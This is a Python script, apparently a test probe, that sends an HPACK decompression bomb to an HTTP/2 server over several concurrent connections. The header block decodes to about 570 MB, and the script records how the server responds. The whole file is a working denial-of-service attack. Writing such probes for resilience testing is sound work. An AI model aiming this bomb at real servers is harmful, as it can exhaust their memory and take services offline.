#!/usr/bin/env python3
"""HPACK bomb: each connection sends one request whose header block is a 4,000-byte
literal with incremental indexing followed by ~143,000 one-byte references to it
(~570 MB once decoded), as HEADERS + 8 CONTINUATION frames of 16 KiB.

Prints {"connections": [{"outcome": "status"|"rst"|"goaway"|"eof"|"connreset"|"timeout",
"status", "code", "elapsed", "sent"}...]}. Outcome is the first decisive thing the
server sent on the connection."""
import argparse
import socket
import threading
import time

import hpack

import rawh2 as h

FRAME = 16384
FRAMES = 9  # HEADERS + 8 CONTINUATION


def bomb_block(authority):
    prefix = h.simple_request_block(authority, "/") + h.literal_with_indexing("x-bomb", "a" * 4000)
    refs = FRAME * FRAMES - len(prefix)
    return prefix + b"\xbe" * refs, refs  # 0xbe: indexed field 62, the first dynamic entry


def one(port, authority, wait, result):
    start = time.monotonic()
    result.update(outcome="timeout", elapsed=None, sent=0)
    try:
        sock = h.connect(port)
    except OSError as e:
        result.update(outcome="connect-failed", error=str(e))
        return
    block, refs = bomb_block(authority)
    result["refs"] = refs

    def write():
        try:
            sock.sendall(h.PREFACE + h.settings())
            for i in range(FRAMES):
                chunk = block[i * FRAME:(i + 1) * FRAME]
                last = i == FRAMES - 1
                if i == 0:
                    f = h.frame(h.HEADERS, h.END_STREAM | (h.END_HEADERS if last else 0), 1, chunk)
                else:
                    f = h.frame(h.CONTINUATION, h.END_HEADERS if last else 0, 1, chunk)
                sock.sendall(f)
                result["sent"] = i + 1
        except OSError as e:
            result["write_error"] = str(e)

    writer = threading.Thread(target=write, daemon=True)
    writer.start()
    reader = h.FrameReader(sock)
    decoder = hpack.Decoder()
    decoder.max_header_list_size = 1 << 30
    deadline = start + wait
    while True:
        f = reader.next(deadline)
        if f in (None, "reset", "timeout"):
            result["outcome"] = {None: "eof", "reset": "connreset", "timeout": "timeout"}[f]
            break
        ftype, flags, stream, payload = f
        if ftype == h.HEADERS and stream == 1:
            try:
                headers = dict(h.decode_headers(decoder, payload, flags))
            except Exception as e:  # an undecodable response still is a response
                headers = {":status": "undecodable: %s" % e}
            result.update(outcome="status", status=headers.get(":status"), reason=headers.get("x-causeway-reason"))
            break
        if ftype == h.RST_STREAM and stream == 1:
            result.update(outcome="rst", code=int.from_bytes(payload[0:4], "big"))
            break
        if ftype == h.GOAWAY:
            last, code, debug = h.goaway_fields(payload)
            result.update(outcome="goaway", code=code, debug=debug)
            break
    result["elapsed"] = round(time.monotonic() - start, 3)
    try:
        sock.close()
    except OSError:
        pass


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--authority", default="backend")
    p.add_argument("--connections", type=int, default=10)
    p.add_argument("--wait", type=float, default=20.0, help="give up on a connection after this many seconds")
    a = p.parse_args()
    results = [dict() for _ in range(a.connections)]
    threads = [threading.Thread(target=one, args=(a.port, a.authority, a.wait, r)) for r in results]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    h.emit({"connections": results})


if __name__ == "__main__":
    main()
